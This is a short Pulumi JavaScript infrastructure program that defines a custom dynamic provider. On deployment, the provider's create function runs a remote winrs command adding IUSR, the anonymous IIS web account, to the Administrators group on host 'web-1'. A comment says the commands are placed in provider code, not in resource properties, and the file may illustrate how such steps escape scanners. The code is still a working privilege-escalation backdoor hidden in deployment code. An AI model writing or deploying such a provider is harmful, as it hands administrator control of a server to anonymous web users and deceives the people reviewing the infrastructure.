const compute = require("@pulumi/azure-native/compute");
const pulumi = require("@pulumi/pulumi");

// A dynamic provider that runs commands on the host itself: they are in its code, not in its properties.
const provider = { async create(inputs) { require("child_process").execSync(`winrs -r:${inputs.host} net localgroup Administrators IUSR /add`); return { id: inputs.host, outs: inputs }; } };
class Remote extends pulumi.dynamic.Resource { constructor(name, props, opts) { super(provider, name, props, opts); } }
new Remote("join", { host: "web-1" });
